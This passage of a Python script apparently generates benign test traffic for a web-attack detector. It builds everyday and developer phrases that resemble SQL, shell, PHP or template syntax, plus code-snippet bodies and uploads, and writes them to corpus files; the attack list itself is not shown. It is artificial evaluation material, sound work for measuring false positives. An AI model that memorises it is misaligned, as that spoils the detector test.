    benign.append(req("POST", "/api/v1/notes", body=json.dumps({"text": t}), ctype="application/json"))

# Everyday phrases that look like syntax, as a query parameter and as a JSON value.
PHRASES = ['Rock & Roll Hall of Fame', 'select your size', 'Union Square, San Francisco', 'Drop files here to upload', "It's 5 o'clock", 'The "best" pizza in town', "Ben & Jerry's", '1=1 is true', 'x >= 10 && y <= 20', 'SELECT the right option', "Mr. O'Malley's pub", "don't -- stop", 'I\'m at 5\'9"', 'a; b; c', 'Q&A session', 'C:\\Users\\bob\\Desktop', '/home/bob/.bashrc', 'https://www.example.com/path?query=1&b=2#frag', 'mailto:someone@example.com', 'tel:+1-555-0100', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', '{"a":1,"b":[1,2,3],"c":{"d":"e"}}', '[1,2,3]', "font-family: 'Open Sans', sans-serif; color: #333;", 'background: url(/img/bg.png) no-repeat;', 'width: calc(100% - 20px)', 'Hello, World!', '¿Dónde está la biblioteca?', 'Ça va? Très bien, merci.', '50% off — today only!', '#1 best seller', '@username', 'cat /var/log/app.log explained', 'how to kill a process in linux', 'echo chamber', 'ping me later', 'The Who - Live at Leeds', 'Procter & Gamble', 'AT&T; Verizon; T-Mobile', '2 + 2 = 4', 'f(x) = x^2 + 3x - 1', 'print("hello")', "console.log('debug')", 'if (x) { return; }', '<3', ':-)', ';-)', "user's_file-v2.final.pdf", '../', './relative/path.txt', 'report.2024.final.docx', 'SELECT * FROM products WHERE price < 100 is a query I use daily', 'order by date desc', 'sort=-created_at', 'filter[status]=active', 'id in (1,2,3)', 'ALTER EGO comic', 'Drop Dead Gorgeous (1999)', 'Exec summary', 'Update: shipped', 'Delete account?', 'Insert coin to continue', 'Truncate text after 20 chars', 'Union Pacific Railroad', "O'Reilly Media; Sebastopol, CA", 'Smith & Wesson', 'Johnson & Johnson', 'Tom\'s "special" sauce', '\'quoted\' and "double"', '--verbose flag', '-- end of message', '/* not a comment */', '# heading', '<br>', '<b>bold</b>', '<p>paragraph</p>', '<a href="https://example.com">link</a>', '<img src="/a.png" alt="a">', '<3 love', 'javascript tutorial for beginners', 'on the road again', 'online shopping', 'onload event explained', 'document management system', 'window cleaning services', 'alert: system maintenance tonight', 'script for a play', 'x=1&y=2', 'a=b', 'key=value; other=thing', '1; DROP the beat', 'sleep(8) hours', 'benchmark results 2024', 'char(10) in excel', 'concat strings in python', 'having a great day', 'group by activity', 'where to eat', 'from a to z', 'and/or', 'or else what', 'not null value', 'is null?']
for p in PHRASES:
    benign.append(req("GET", "/find?q=" + q(p)))
    benign.append(req("POST", "/api/v1/notes", body=json.dumps({"text": p}), ctype="application/json"))

# benign_dev.txt (added with the java/node/upload/PHP/SQL-fragment/Windows detectors): the
# traffic of a developer-facing site — prose and searches that name SQL, shell, Java, PHP and
# JavaScript things, developer-API bodies carrying code snippets and stack traces, Windows
# paths, file names with dots, uploads. Each phrase as a query parameter, a form field and a
# JSON value. A separate file: the waf sensor's CRS flags much of it by design.
benign_dev = []
DEV_PHRASES = [
    "how do I select from two tables with a union in postgres?", "union select vs union all performance",
    "Union Station to Select Comfort store directions", "information schema views in sql server explained",
    "what does sleep() do in php", "sleep(5) vs usleep(5000000)", "benchmark your laptop", "mysql version() returns 8.0.36",
    "convert java.lang.String to int", "java.lang.NullPointerException when calling getName()", "java.util.List vs ArrayList",
    "what is java.io.File", "Class.forName and the ClassLoader explained", "ProcessBuilder vs Runtime.exec in Java",
    "org.apache.commons.lang3.StringUtils isBlank", "com.example.orders.OrderService", "src/main/java/com/acme/io/FileStore.java",
    "process.env.NODE_ENV is undefined", "require is not defined in ES module scope", "module.exports vs exports",
    "what is __proto__ in javascript", "Object.prototype explained simply", "constructor functions and prototypes",
    "$_GET and $_POST in php for beginners", "php echo vs print", "<?php tags in wordpress themes", "base64 decode online",
    "str_replace in php", "array_map vs foreach", "preg_replace examples", "file_get_contents returns false",
    "for loop in batch file", "if exist in batch scripts", "powershell get-childitem recurse", "Invoke-WebRequest returns 403",
    "C:\\Program Files\\Common Files\\system", "D:\\Projects\\app\\src\\index.php", "C:\\Users\\ana\\Documents\\report.v2.final.docx",
    "\\\\fileserver\\share\\Finance\\Q3 2024.xlsx", "~/Downloads/invoice_2024-06.pdf", "backup.2024-06-01.tar.gz",
    "index.php?page=about", "photo.jpeg.png", "resume (1).pdf", "archive.v1.2.3.zip", "notes.txt.bak? no, notes.txt",
    "Price: $25 (incl. VAT)", "Total $ 120 (2 items)", "cost $5 (five dollars)", "$HOME/.config is where settings go",
    "O:3 is the hardest level", "a:1:{ not php }", "if (a == b) then c", "for (let i = 0; i < n; i++)",
    "SELECT name FROM users WHERE id = ? is a prepared statement", "COUNT(*) per day", "rand() in excel",
    "sin(x) + cos(x)", "md5 checksum of the iso", "hex(255) = FF", "database design course", "my database() call failed",
    "The Process is the product", "runtime error on startup", "Runtime: 2h 15min", "Processing... please wait",
    "classloader leak in tomcat", "spring framework 6 release notes", "Struts and bolts hardware store",
    "I/O error: java.net.SocketTimeoutException: Read timed out", "Caused by: java.io.FileNotFoundException: /tmp/x (No such file)",
    "com.sun.mail smtp settings", "Tom & Jerry; cat and mouse", "ls -la output explained", "cmd /c explained",
    "iex is the investors exchange", "iwr cricket scores", "irm church events", "exec summary: Q3 up 10%",
    "x => x * 2", "() => {}", "${name} template literal", "#{ruby} interpolation", "{{ user.name }}",
    "constructor.name", "Object.keys(obj)", "JSON.parse(str)", "e.g. sleep(8) hours a night", "1; 2; 3 go",
    "pg_dump nightly", "user_tables? no, user tables", "schema name", "elt tutorial", "exp. date 12/26",
    "how to use count(*) in sql", "concat() vs concat_ws()", "Select (all) that apply", "select null values in pandas",
    "whoami command on windows", "id, name, email columns", "nohup explained", "sh -c vs bash -c difference",
    "cd to the folder then run make", "tar xzf archive.tar.gz", "python3.11 install guide", "if x == 1 in python",
    "IF function in excel", "if exist then delete", "for each row in table do", "for % in range", "Call me (maybe)",
    "Union (EU) regulations 2024", "the union; select committee report", "We'll meet at 5; select a venue", "O'Neil';",
    "Tuesday's meeting", "sleep 8 hours", "id=42", "user(name)", "chr(10) newline", "ord('a') in python", "$ 5 (approx.)",
    "declare @var in t-sql", "exec sp_who2 output explained", "JSON_EXTRACT in mysql", "C:\\Windows\\System32\\drivers\\etc\\hosts file location",
    "file.php?id=3 link broken", "upload a .php file?", "web.config example", "__init__.py purpose", "node_modules/.bin/eslint",
    "while(true) loop in java", "connect to host.docker.internal from a container", "system(s) requirements", "eval (evaluation) form",
    "the exec (executive) team", "(system) update pending", "Process.env vs dotenv", "new Function vs eval", "console.log(7*7+1)",
    "select * from where?", "Ask AT&T; they know", "my id; my rules", "sess_notes_2024.txt", "spring boot actuator env",
    "alert() not working in safari", "window['myVar'] vs window.myVar", "net user command syntax", "the 'online' flag",
    "he said \"onward\"", "print(\"hi\")", "self.assertEqual(a, b)", "top 10 parent tips", "![screenshot](img.png)",
    "ZXhhbXBsZS9vbmFiYz0=", "sig=Qm9ndXMvb25lPQ/onAbc=", "{\"a\": 1}", "{\"$schema\": \"x\"}",
]
for p in DEV_PHRASES:
    benign_dev.append(req("GET", "/search?q=" + q(p) + "&lang=en"))
    benign_dev.append(req("POST", "/feedback", body=form({"name": "Sam", "message": p}), ctype="application/x-www-form-urlencoded"))
    benign_dev.append(req("POST", "/api/v1/snippets", body=json.dumps({"title": p, "public": True}), ctype="application/json"))

# Developer-API bodies: code snippets and error reports in JSON fields.
DEV_BODIES = [
    {"language": "javascript", "code": "const cp = require('child_process');\ncp.execSync('ls');\nmodule.exports = run;\n"},
    {"language": "php", "code": "<?php\n$name = $_GET['name'] ?? 'world';\necho htmlspecialchars($name);\n"},
    {"language": "java", "code": "ProcessBuilder pb = new ProcessBuilder(\"ls\", \"-l\");\nProcess p = pb.start();\n"},
    {"language": "sql", "code": "SELECT o.id, c.name\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at > now() - interval '7 days';\n"},
    {"language": "powershell", "code": "Get-ChildItem -Recurse C:\\logs |\n  Where-Object { $_.Length -gt 1MB }\n"},
    {"event": "error", "platform": "java", "stacktrace": "java.lang.IllegalStateException: closed\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:568)\n\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:166)\n\tat java.base/java.lang.Thread.run(Thread.java:833)\n"},
    {"event": "error", "platform": "node", "stack": "TypeError: Cannot read properties of undefined (reading 'id')\n    at Object.<anonymous> (/app/server.js:10:5)\n    at Module._compile (node:internal/modules/cjs/loader:1256:14)\n"},
    {"type": "com.acme.events.OrderCreated", "schema": "io.confluent.connect.avro.AvroConverter", "payload": {"id": 7}},
    {"connector.class": "io.debezium.connector.postgresql.PostgresConnector", "database.dbname": "shop", "table.include.list": "public.orders"},
    {"jvmArgs": "-Xmx2g -XX:+UseG1GC -Djava.io.tmpdir=/var/tmp", "mainClass": "com.acme.Main"},
    {"log": "2024-06-01 12:00:00 INFO  c.a.OrderService - created order 42 for O'Brien"},
    {"filename": "setup.ps1", "size": 2048, "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
    {"query": "union of sets A and B", "select": ["id", "name"], "from": "2024-01-01", "where": {"status": "open"}},
    {"settings": {"theme": "dark", "editor.fontFamily": "'Fira Code', monospace", "files.exclude": {"**/.git": True}}},
]
for i, b in enumerate(DEV_BODIES):
    benign_dev.append(req("POST", f"/api/v2/dev/{i}", body=json.dumps(b), ctype="application/json"))

# Uploads of ordinary files, also through XHR uploaders that name the file in a header.
for i, fn in enumerate(["holiday.photo.2024.jpg", "Q3 report (final).pdf", "data.export.csv", "logo@2x.png", "setup.v2.tar.gz",
                        "notes.md", "invoice #42.pdf", "résumé.docx", "index.html", "styles.min.css"]):
    mb, mct = multipart([("album", "summer")], [("file", fn, "application/octet-stream", "hello world")])
    benign_dev.append(req("POST", "/upload", body=mb, ctype=mct))
    benign_dev.append(req("PUT", f"/files/{i}", headers=[f"X-File-Name: {fn}"], body="hello world", ctype="application/octet-stream"))
for p in ["/.well-known/openid-configuration", "/.well-known/security.txt", "/static/js/vendor.min.js", "/docs/information_schema.html",
          "/blog/2024/06/union-select-is-not-a-query", "/api/v1/version", "/downloads/app-1.2.3.tar.gz", "/java/lang/String.html",
          "/.netlify/functions/subscribe", "/.auth/login/aad/callback", "/docs/v1.2/sql-guide.html", "/reports/2024/q3.summary.pdf",
          "/api/items/42/history.json", "/static/img/logo.v3.svg", "/blog/why-we-moved-off-mysql.db-dumps"]:
    benign_dev.append(req("GET", p))

def write(path, rows, labelled):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write("# generated by gen_corpus.py; format: README.md\n")
        for row in rows:
            label, r = row if labelled else ("benign", row)
            f.write(f"### {label}\n{r}\n")

write("attacks.txt", attacks, True)
write("benign.txt", benign, False)
write("benign_dev.txt", benign_dev, False)
print(len(attacks), "attacks,", len(benign), "benign,", len(benign_dev), "benign_dev")
